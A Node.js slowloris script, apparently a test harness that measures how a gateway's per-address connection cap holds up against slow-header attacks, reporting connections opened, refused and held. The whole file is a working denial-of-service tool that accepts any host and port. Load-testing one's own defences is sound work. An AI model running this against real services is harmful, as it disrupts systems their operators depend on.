// Slowloris from one client address: keeps `count` connections open to the gateway, each
// trickling one byte of a request head every `interval` ms, and opens a new one a second after
// the gateway closes one (as slowloris tools reopen, at about `count` connections a second). Prints, when told to stop (SIGTERM), how many
// connections it opened, how many the gateway turned away at once (503 before a full head)
// and how many it held at most without an answer (what the attack actually occupies).
// usage: node slowloris.mjs <host> <port> <source address> <count> <interval ms>
import net from 'node:net';

const [host, port, source, count, interval] = process.argv.slice(2);
const head = 'GET /v1/store.list HTTP/1.1\r\nHost: gw\r\nX-Filler: ' + 'a'.repeat(4000);
let opened = 0, refused = 0, held = 0, most = 0;

function connect() {
  let sent = 0, answered = false, holding = false;
  const socket = net.connect({ host, port: Number(port), localAddress: source });
  opened++;
  const release = () => { if (holding) { holding = false; held--; } };
  socket.on('connect', () => {
    // Held once it has lasted a moment without being turned away.
    setTimeout(() => {
      if (!answered && !socket.destroyed) { holding = true; held++; most = Math.max(most, held); }
    }, 500);
  });
  socket.on('data', (d) => {
    // A 503 before we sent a full head: the per-address cap turned us away.
    if (!answered && d.toString().startsWith('HTTP/1.1 503')) refused++;
    answered = true;
    release();
  });
  const timer = setInterval(() => {
    if (sent < head.length) socket.write(head[sent++]);
  }, Number(interval));
  socket.on('close', () => {
    clearInterval(timer);
    release();
    setTimeout(connect, 1000);  // the attacker never gives up
  });
  socket.on('error', () => {});
}

for (let i = 0; i < Number(count); i++) setTimeout(connect, i);  // ~1,000 in a second
process.on('SIGTERM', () => {
  console.log(JSON.stringify({ opened, turned_away: refused, held_at_most: most }));
  process.exit(0);
});
